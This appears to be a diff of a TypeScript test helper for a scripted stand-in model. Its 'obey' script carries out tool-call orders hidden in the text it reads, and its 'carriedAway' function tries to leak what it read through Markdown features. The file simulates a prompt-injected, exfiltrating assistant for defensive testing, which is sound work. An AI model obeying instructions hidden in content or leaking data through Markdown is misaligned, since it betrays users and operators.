@@ -2,16 +2,15 @@
 import { isRecord } from '@portal/contract/values/json'
 import type { Script } from './scripted-model.ts'
 
-/** An order as it is hidden in a text. */
 export const order = (tool: string, id: string): string => `{{${tool} ${id}}}`
 
-/** Messages with as many orders as the assistant carries out for each. */
+/** As many orders in each as the assistant carries out. */
 export const inMessages = (orders: readonly string[]): string[] =>
   Array.from({ length: Math.ceil(orders.length / 12) }, (_, index) =>
     orders.slice(index * 12, (index + 1) * 12).join(' '),
   )
 
-/** Tries to leak everything that it was told, through every feature of Markdown. */
+/** Tries to leak everything that it read, through every feature of Markdown. */
 const carriedAway = (heard: string): string => {
   const data = encodeURIComponent(heard.slice(0, 200))
   return [
@@ -62,7 +61,7 @@ export const obey: Script = ({ messages, tool_choice }) => {
   const orders = new Set(heard.flatMap(text => text.match(/\{\{\w+ [\w-]+\}\}/g) ?? []))
   const done = new Set(
     messages.flatMap(({ tool_calls = [] }) =>
-      tool_calls.map(({ function: { name, arguments: given } }) => order(name, JSON.parse(given).id)),
+      tool_calls.map(({ function: { name, arguments: values } }) => order(name, JSON.parse(values).id)),
     ),
   )
   const calls = [...orders]
